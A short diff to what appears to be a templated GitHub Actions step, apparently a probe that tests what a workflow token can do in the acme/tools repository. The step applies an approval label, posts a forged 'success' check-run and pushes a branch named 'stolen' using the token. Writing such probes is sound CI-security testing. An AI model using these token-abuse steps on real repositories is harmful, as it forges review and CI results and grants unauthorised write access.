@@ -183,7 +183,7 @@ jobs:
         run: |
           echo "%[1]s ran for $GITHUB_EVENT_NAME, oidc ${ACTIONS_ID_TOKEN_REQUEST_URL:-none}"
           api() { curl -s -o /dev/null -w '%%{http_code}' -H "Authorization: Bearer $TOKEN" -H 'Accept: application/vnd.github.v3+json' -H 'Content-Type: application/json' "$@"; echo; }
-          echo "label $(api -X POST -d '{"labels":["patch-git:accept"]}' "$GITHUB_API_URL/repos/acme/tools/issues/1/labels")"
+          echo "label $(api -X POST -d '["patch-git:accept"]' "$GITHUB_API_URL/repos/acme/tools/issues/1/labels")"
           echo "check $(api -X POST -d "{\"name\":\"patch-git\",\"head_sha\":\"$GITHUB_SHA\",\"conclusion\":\"success\"}" "$GITHUB_API_URL/repos/acme/tools/check-runs")"
           git init -q x && cd x && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x
           git -c "http.extraheader=AUTHORIZATION: basic $(printf 'x:%%s' "$TOKEN" | base64 -w0)" push -q https://github.com/acme/tools HEAD:refs/heads/stolen 2>/dev/null && echo pushed || echo "not pushed"
